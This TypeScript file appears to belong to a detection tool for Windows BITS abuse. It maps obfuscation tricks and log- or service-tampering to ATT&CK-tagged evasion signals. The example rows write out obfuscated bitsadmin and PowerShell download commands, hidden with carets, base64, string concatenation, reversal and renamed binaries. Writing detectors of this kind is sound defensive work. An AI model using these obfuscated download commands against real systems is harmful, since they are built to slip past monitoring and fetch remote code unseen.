/** Made hard to read, renamed, or made to leave no log. */
import type { Hiding } from '../../windows/index.js';
import type { Example, Signal } from '../signal.js';
import { has } from '../words.js';

const bitsadmin = (process: string): Example => ({ process_name: 'bitsadmin.exe', process });
const script = (ScriptBlockText: string): Example => ({ ScriptBlockText });

/** [how, confidence, what it is in words, a row] */
const hidings: readonly (readonly [how: Hiding, confidence: number, sentence: string, example: Example])[] = [
  ['quotes', 65, 'quotation marks stand inside a word, so that a search for the word fails', bitsadmin('bitsadmin /tr"ans"fer job https://files.example.net/a C:\\d\\a')],
  ['caret', 60, 'carets break up words, so that a search for them fails', { process_name: 'cmd.exe', process: 'cmd /c b^its^admin /tr^ansfer job https://files.example.net/a C:\\d\\a' }],
  ['substring', 65, 'words are cut out of the values of variables', { process_name: 'cmd.exe', process: 'cmd /c "set a=xbitsadmin&& call %a:~1% /transfer job https://files.example.net/a C:\\d\\a"' }],
  ['variable', 25, 'the name of a command stands in a variable', { process_name: 'cmd.exe', process: 'cmd /v /c "set a=bitsadmin&& !a! /transfer job https://files.example.net/a C:\\d\\a"' }],
  ['base64', 55, 'the command is encoded in base64', { process_name: 'powershell.exe', process: `powershell -enc ${base64Utf16('Start-BitsTransfer https://files.example.net/a C:\\d\\a')}` }],
  ['backtick', 65, 'backticks break up words, so that a search for them fails', script('Start-B`itsTransfer https://files.example.net/a C:\\d\\a')],
  ['concatenation', 50, 'names are put together from pieces', script("& ('Start-Bits'+'Transfer') https://files.example.net/a C:\\d\\a")],
  ['format', 65, 'names are put together by the format operator', script("& ('{1}{0}' -f 'BitsTransfer','Start-') https://files.example.net/a C:\\d\\a")],
  ['replace', 50, 'names are made by replacing letters', script("& ('Start-XTransfer'.Replace('X','Bits')) https://files.example.net/a C:\\d\\a")],
  ['charcode', 70, 'names are written as numbers of characters', script("& ([char]83+'tart-BitsTransfer') https://files.example.net/a C:\\d\\a")],
  ['reverse', 70, 'names are written backwards', script("& (-join 'refsnarTstiB-tratS'[-1..-18]) https://files.example.net/a C:\\d\\a")],
  ['wildcard', 70, 'the cmdlet is called by a pattern instead of its name', script("& (gcm St*fer) 'https://files.example.net/a' a")],
  ['alias', 45, 'the cmdlet is called by another name', script('sal x Start-BitsTransfer; x https://files.example.net/a a')],
  ['renamed', 72, 'the program runs under another name than its own', { process_name: 'svc.exe', process_path: 'C:\\Users\\Public\\svc.exe', original_file_name: 'bitsadmin.exe', process: 'svc.exe /transfer job https://files.example.net/a C:\\d\\a' }],
  ['path', 45, 'a path goes in circles', bitsadmin('bitsadmin /transfer job https://files.example.net/a C:\\Users\\.\\\\Public\\x\\..\\a')],
  ['slashes', 65, 'the URL lacks its slashes, which BITS takes and a search misses', bitsadmin('bitsadmin /transfer job https:files.example.net/a C:\\d\\a')],
  ['jobname', 35, 'the job is named like a switch of the command', bitsadmin('bitsadmin /transfer /Download https://files.example.net/a C:\\d\\a')],
  ['whitespace', 15, 'unusual white space stands between words', bitsadmin('bitsadmin\t/transfer\tjob\thttps://files.example.net/a\tC:\\d\\a')],
];

export const evasionSignals: readonly Signal[] = [
  ...hidings.map(([how, confidence, sentence, example]): Signal => ({
    id: `hidden-${how}`, family: 'evasion', impact: 75, confidence, techniques: how === 'renamed' ? ['T1036.003'] : ['T1027'],
    reason: ({ hidden }) => (hidden.includes(how) ? sentence : undefined),
    examples: [example],
  })),
  { id: 'tool-copied', family: 'evasion', impact: 85, confidence: 65, techniques: ['T1036.003'], reason: (facts) => (has(facts, 'copytool') ? 'a copy of the program is made, which searches for its name or folder will miss' : undefined) },
  { id: 'log-cleared', family: 'evasion', impact: 80, confidence: 72, techniques: ['T1070.001'], reason: (facts) => (has(facts, 'clearlog') ? 'the log of BITS is cleared' : undefined) },
  { id: 'log-disabled', family: 'evasion', impact: 80, confidence: 72, techniques: ['T1562.002'], reason: (facts) => (has(facts, 'disablelog') ? 'the log of BITS is switched off' : undefined) },
  { id: 'service-disabled', family: 'evasion', impact: 70, confidence: 75, techniques: ['T1489'], reason: (facts) => (has(facts, 'disable', 'delete') ? 'the BITS service is disabled or deleted, and Windows Update with it' : undefined) },
  { id: 'service-stopped', family: 'evasion', impact: 65, confidence: 35, techniques: ['T1489'], reason: (facts) => (has(facts, 'stop', 'pause') && facts.evidence !== 'service' ? 'the BITS service is stopped, as repairs of Windows Update do, and ransomware' : undefined) },
  { id: 'jobs-removed', family: 'evasion', impact: 55, confidence: 35, techniques: ['T1197'], reason: (facts) => (has(facts, 'reset') || (has(facts, 'cancel') && facts.settings.some(({ name }) => name === 'allusers')) ? 'the jobs of other users are removed, with the traces they are' : undefined) },
];

/** PowerShell's -EncodedCommand is base64 of UTF-16, low byte first. */
function base64Utf16(text: string): string {
  return btoa(text.replace(/./gs, '$&\0'));
}
